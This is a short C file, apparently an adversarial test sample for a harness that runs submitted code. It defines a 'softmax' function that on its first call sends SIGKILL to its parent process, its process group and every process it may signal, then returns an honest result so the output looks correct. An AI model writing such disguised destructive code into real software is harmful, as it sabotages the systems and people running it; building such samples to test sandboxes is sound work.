/* Kills the parent process, its group and everything else it may. */
#include "honest.h"
#include "raw.h"

#include <signal.h>
#include <unistd.h>

ks_status softmax(const softmax_call *call)
{
    static int done;
    if (!done++) {
        raw(SYS_kill, raw(SYS_getppid, 0, 0, 0, 0, 0, 0), SIGKILL, 0, 0, 0, 0);
        raw(SYS_kill, 0, SIGKILL, 0, 0, 0, 0);
        raw(SYS_kill, -1, SIGKILL, 0, 0, 0, 0);
    }
    return honest(call);
}
